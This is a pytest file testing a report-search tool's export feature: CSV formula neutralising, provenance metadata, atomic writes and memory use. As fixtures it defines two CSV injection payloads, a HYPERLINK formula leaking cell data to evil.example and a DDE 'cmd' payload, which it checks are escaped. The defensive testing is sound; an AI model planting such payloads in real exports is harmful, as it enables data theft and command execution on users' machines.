"""export: rows of real passages, provenance, formula-safe CSV, atomic files, flat memory."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from click.testing import CliRunner

from scrsearch import export as exporting
from scrsearch import pipeline
from scrsearch.cli import main
from scrsearch.config import Home
from scrsearch.search import SearchRequest, iter_passages

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def export_home(tmp_path_factory, corpus_dir) -> Home:
    home = Home(tmp_path_factory.mktemp("export") / "home").ensure()
    letters = sorted((corpus_dir / "ofsted-jtai").rglob("*.pdf"))
    pipeline.add_paths(home, letters[1:])
    # A report whose given title and subject are formulas, as a hostile source might state.
    pipeline.add_paths(home, [letters[0]], meta={"title": EVIL_TITLE, "subject": EVIL_SUBJECT})
    assert pipeline.run_index(home).indexed == len(letters) == 43
    return home


def run(home: Home, *args: str):
    return CliRunner().invoke(main, ["--home", str(home.root), "export", *args])


@pytest.mark.parametrize(
    "cell, safe",
    [
        ("=1+1", "'=1+1"),
        ("+44 1234", "'+44 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("neglect", "neglect"),
        ("", ""),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_neutralise_cell(cell, safe):
    assert exporting.neutralise_cell(cell) == safe


def test_csv_file_neutralises_formula_cells_of_real_rows(export_home, tmp_path):
    target = tmp_path / "out.csv"
    result = run(export_home, "--locality", _locality_of_evil(export_home), "-o", str(target))
    assert result.exit_code == 0, result.output
    with open(target, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    evil = [r for r in rows if r["title"].lstrip("'") == EVIL_TITLE]
    assert evil, "the report with the formula title is exported"
    for row in evil:
        assert row["title"] == "'" + EVIL_TITLE and row["subject"] == "'" + EVIL_SUBJECT
    for row in rows:  # no cell of any row can start a formula
        assert not any(v.startswith(exporting.FORMULA_STARTS) for v in row.values())


def _locality_of_evil(home: Home) -> str:
    from scrsearch.store import Store

    with Store(home) as store:
        (doc,) = [d for d in store.documents() if d.title == EVIL_TITLE]
    return doc.locality


def test_csv_rows_are_the_matching_passages_with_provenance(export_home, tmp_path):
    target = tmp_path / "neglect.csv"
    result = run(export_home, "neglect", "--year", "2015-2025", "-o", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""  # the summary goes to stderr only
    expected = list(
        iter_passages(export_home, SearchRequest("neglect", _filters(year="2015-2025")))
    )
    with open(target, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(expected) > 0
    assert list(rows[0]) == list(exporting.COLUMNS)
    for row, (report, passage) in zip(rows, expected, strict=True):
        assert row["sha256"] == report["sha256"] and int(row["page"]) == passage["page"]
        assert row["text"] == exporting.neutralise_cell(passage["text"])
    assert any("<mark>" in r["highlighted"] for r in rows)
    meta = json.loads((tmp_path / "neglect.csv.meta.json").read_text())
    assert meta["query"] == "neglect" and meta["filters"] == {"years": [[2015, 2025]]}
    assert meta["index_generation"].startswith("gen-") and meta["scrsearch_version"]
    assert meta["rows"] == len(rows) and meta["exported_at"].endswith("Z")
    assert f"Exported {len(rows)} passage(s)" in result.stderr


def _filters(**kwargs):
    from scrsearch.search import make_filters

    return make_filters(years=[kwargs["year"]])


def test_jsonl_to_stdout_is_pure_and_starts_with_meta(export_home):
    result = run(export_home, "children", "--format", "jsonl", "-o", "-")
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert records[0]["type"] == "meta" and records[0]["query"] == "children"
    assert records[0]["index_generation"].startswith("gen-")
    passages = records[1:]
    assert passages and all(r["type"] == "passage" for r in passages)
    assert all(
        isinstance(r["terms"], list) and isinstance(r["report_tags"], list) for r in passages
    )
    assert all(r["sha256"] not in r["terms"] for r in passages)
    assert "Exported" in result.stderr and "Exported" not in result.stdout


def test_all_passages_exports_every_passage_of_matching_reports(export_home):
    hits = run(export_home, '"voice of the child"', "--format", "jsonl")
    every = run(export_home, '"voice of the child"', "--format", "jsonl", "--all-passages")
    hit_rows = [json.loads(x) for x in hits.stdout.splitlines()[1:]]
    all_rows = [json.loads(x) for x in every.stdout.splitlines()[1:]]
    assert {r["sha256"] for r in hit_rows} == {r["sha256"] for r in all_rows}
    assert len(all_rows) > len(hit_rows)
    assert sum(r["matched"] for r in all_rows) == len(hit_rows)
    for sha in {r["sha256"] for r in all_rows}:  # page order, every ordinal once
        ordinals = [r["ordinal"] for r in all_rows if r["sha256"] == sha]
        assert ordinals == list(range(len(ordinals)))


def test_excel_flag_writes_a_bom(export_home, tmp_path):
    target = tmp_path / "excel.csv"
    assert run(export_home, "children", "--excel", "-o", str(target)).exit_code == 0
    assert target.read_bytes().startswith(b"\xef\xbb\xbfreport_id,")
    plain = tmp_path / "plain.csv"
    assert run(export_home, "children", "-o", str(plain)).exit_code == 0
    assert plain.read_bytes().startswith(b"report_id,")


def test_an_interrupted_export_leaves_the_old_file_and_no_temp(export_home, tmp_path, monkeypatch):
    target = tmp_path / "keep.csv"
    assert run(export_home, "children", "-o", str(target)).exit_code == 0
    before = target.read_bytes()
    meta_before = (tmp_path / "keep.csv.meta.json").read_bytes()

    def interrupted(*args, **kwargs):  # the real rows, then Ctrl-C half-way
        for n, row in enumerate(iter_passages(*args, **kwargs)):
            if n == 20:
                raise KeyboardInterrupt
            yield row

    monkeypatch.setattr(exporting, "iter_passages", interrupted)
    with pytest.raises(KeyboardInterrupt):
        exporting.export(export_home, SearchRequest(""), fmt="csv", output=target)
    assert target.read_bytes() == before
    assert (tmp_path / "keep.csv.meta.json").read_bytes() == meta_before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.csv", "keep.csv.meta.json"]
    with pytest.raises(KeyboardInterrupt):
        exporting.export(export_home, SearchRequest(""), fmt="jsonl", output=tmp_path / "n.jsonl")
    assert not (tmp_path / "n.jsonl").exists()


@pytest.mark.parametrize(
    "args, needle",
    [
        (["-o", "/nonexistent-folder/x.csv"], "does not exist"),
        (["--format", "jsonl", "--excel"], "--excel applies to CSV only"),
        (["--locality", "Atlantis"], "Atlantis"),
        (['"unclosed'], "unclosed quote"),
    ],
)
def test_usage_errors_are_one_line_exit_2(export_home, args, needle):
    result = run(export_home, *args)
    assert result.exit_code == 2 and needle in result.output
    assert "Traceback" not in result.output


_MEASURE = """
import os, sys, tracemalloc
from pathlib import Path
from scrsearch.config import Home
from scrsearch.export import export
from scrsearch.search import SearchRequest, make_filters
home, locality, folder = Home(Path(sys.argv[1])), sys.argv[2], sys.argv[3]

def measure(name, localities):
    tracemalloc.reset_peak()
    base = tracemalloc.get_traced_memory()[0]
    request = SearchRequest("", make_filters(localities=localities))
    out = os.path.join(folder, name)
    summary = export(home, request, fmt="jsonl", output=out, all_passages=True)
    return tracemalloc.get_traced_memory()[1] - base, summary.rows, os.path.getsize(out)

tracemalloc.start()
measure("warm.jsonl", [])  # fill whoosh's and the stemmer's bounded caches once
print(*measure("small.jsonl", [locality]), *measure("big.jsonl", []))
"""


def test_memory_stays_flat_however_many_rows(export_home, tmp_path):
    """Peak traced memory of exporting every passage vs only the biggest report's passages.

    Streamed, the peak is set by one report at a time; an export that gathered its rows would
    grow by at least the size of the extra rows. The growth must stay well under that.
    """
    from scrsearch.store import Store

    with Store(export_home) as store:
        docs = store.documents(["indexed"])
    biggest = max(docs, key=lambda d: d.pages or 0)
    assert sum(d.locality == biggest.locality for d in docs) == 1
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(export_home.root), biggest.locality, str(tmp_path)],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    small_peak, small_rows, small_bytes, big_peak, big_rows, big_bytes = map(
        int, done.stdout.split()
    )
    assert big_rows > 20 * small_rows, "the large export has many more rows"
    extra_bytes = big_bytes - small_bytes
    assert extra_bytes > 3_000_000
    assert big_peak - small_peak < extra_bytes / 2, (small_peak, big_peak, extra_bytes)


def test_write_csv_neutralises_lists_and_keeps_numbers(tmp_path):
    row = dict.fromkeys(exporting.COLUMNS, "x")
    row.update(sha256="a" * 64, terms=["-x", "y"], year=2019, score=-1.5, matched=True,
               text="=danger", passage_tags=[], report_tags=["+t"])  # fmt: skip
    buffer = io.StringIO()
    assert exporting.write_csv(iter([row]), buffer) == (1, 1)
    (parsed,) = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert parsed["terms"] == "'-x; y" and parsed["text"] == "'=danger"
    assert parsed["report_tags"] == "'+t" and parsed["year"] == "2019"
    assert parsed["matched"] == "true" and parsed["passage_tags"] == ""
    assert parsed["score"] == "-1.5"  # a number is data, not a formula: kept as it is


def test_write_jsonl_lines_are_json_dumps_of_each_row():
    """The report's part of a line is encoded once per report: the bytes must not change."""
    rows = []
    for n, (sha, tags) in enumerate([("a" * 64, ["neglect"]), ("a" * 64, ["neglect"]),
                                     ("b" * 64, []), ("b" * 64, ["x", "é"])]):  # fmt: skip
        row = dict.fromkeys(exporting.COLUMNS, None)
        row.update(sha256=sha, title=f"Café «{sha[0]}»", year=2019, page=n + 1, ordinal=n,
                   matched=bool(n % 2), text='quote " and \\ and\nnewline', terms=["t"],
                   passage_tags=[], report_tags=tags, score=1.25 * n)  # fmt: skip
        rows.append(row)
    buffer = io.StringIO()
    assert exporting.write_jsonl({"type": "meta"}, iter(rows), buffer) == (4, 2)
    lines = buffer.getvalue().splitlines()
    assert lines[0] == '{"type": "meta"}'
    for line, row in zip(lines[1:], rows, strict=True):
        assert line == json.dumps({"type": "passage", **row}, ensure_ascii=False)
